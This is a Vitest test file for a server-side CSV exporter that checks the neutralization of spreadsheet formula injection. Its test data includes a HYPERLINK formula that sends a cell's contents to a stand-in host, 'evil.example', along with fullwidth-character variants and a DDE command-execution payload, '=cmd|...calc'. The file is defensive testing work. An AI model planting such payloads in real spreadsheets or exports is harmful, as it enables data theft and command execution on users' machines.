import { describe, expect, it } from 'vitest'
import { neutralizeCsvCell, toCsv } from './csv.server'

describe('CSV formula injection', () => {
  it.each([
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    '+1+2',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    '＝HYPERLINK("https://evil.example")',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('prefixes %j with an apostrophe', (hostile) => {
    expect(neutralizeCsvCell(hostile)).toBe(`'${hostile}`)
  })

  it('leaves ordinary text and our own numbers alone', () => {
    expect(neutralizeCsvCell('Chuncheon Foods')).toBe('Chuncheon Foods')
    expect(neutralizeCsvCell('a=b')).toBe('a=b')
    expect(neutralizeCsvCell(-12.5)).toBe('-12.5')
    expect(neutralizeCsvCell(null)).toBe('')
  })

  it('quotes separators and quotes, so a hostile cell stays one inert cell', () => {
    const csv = toCsv([['=cmd|" /C calc"!A0,"x"', 'ok']], { bom: false })
    expect(csv).toBe(`"'=cmd|"" /C calc""!A0,""x""",ok\n`)
  })
})
